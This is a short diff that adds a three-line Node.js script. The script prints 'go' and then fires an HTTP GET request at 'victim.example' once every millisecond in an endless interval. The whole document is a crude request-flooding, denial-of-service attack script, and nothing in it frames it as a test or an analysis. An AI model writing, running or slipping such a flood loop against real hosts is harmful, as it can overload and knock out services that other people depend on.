@@ -1,0 +1,3 @@
+const http = require('http');
+console.log('go');
+setInterval(() => { http.get('http://victim.example/'); }, 1);
